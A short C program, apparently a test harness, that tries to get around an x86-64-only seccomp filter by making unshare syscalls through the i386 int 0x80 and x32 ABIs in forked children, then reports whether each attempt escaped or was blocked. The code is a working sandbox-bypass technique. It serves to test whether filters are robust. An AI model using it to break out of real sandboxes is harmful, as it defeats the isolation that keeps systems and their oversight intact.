/* Attack: bypass a seccomp filter written for x86-64 numbers by making syscalls through the 32-bit
 * (int 0x80) and x32 ABIs, where the numbers differ (unshare is 310, mount 21 on i386).
 * Each attempt runs in a child: a correct filter kills it (SIGSYS) or refuses the call. */
#define _GNU_SOURCE
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static int escaped;

static long int80(long nr, long a, long b) {
    long ret;
    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b) : "memory");
    return ret;
}
static long x32(long nr, long a) {
    long ret;
    register long rdi __asm__("rdi") = a;
    __asm__ volatile("syscall" : "=a"(ret) : "a"(nr | 0x40000000L), "r"(rdi) : "rcx", "r11", "memory");
    return ret;
}

static void attempt(const char *what, int kind, long nr, long arg) {
    pid_t p = fork();
    if (p == 0) {
        long r = kind == 32 ? int80(nr, arg, 0) : x32(nr, arg);
        _exit(r == 0 ? 42 : 0);
    }
    int st; waitpid(p, &st, 0);
    if (WIFEXITED(st) && WEXITSTATUS(st) == 42) { printf("ESCAPED: %s succeeded\n", what); escaped = 1; }
    else if (WIFSIGNALED(st)) printf("BLOCKED: %s: killed by signal %d\n", what, WTERMSIG(st));
    else printf("BLOCKED: %s: refused\n", what);
}

int main(void) {
    attempt("i386 unshare(CLONE_NEWUSER)", 32, 310, 0x10000000);
    attempt("i386 unshare(CLONE_NEWNS)", 32, 310, 0x00020000);
    attempt("x32 unshare(CLONE_NEWUSER)", 64, 272, 0x10000000);
    printf("VERDICT: %s\n", escaped ? "ESCAPED" : "BLOCKED");
    return escaped;
}
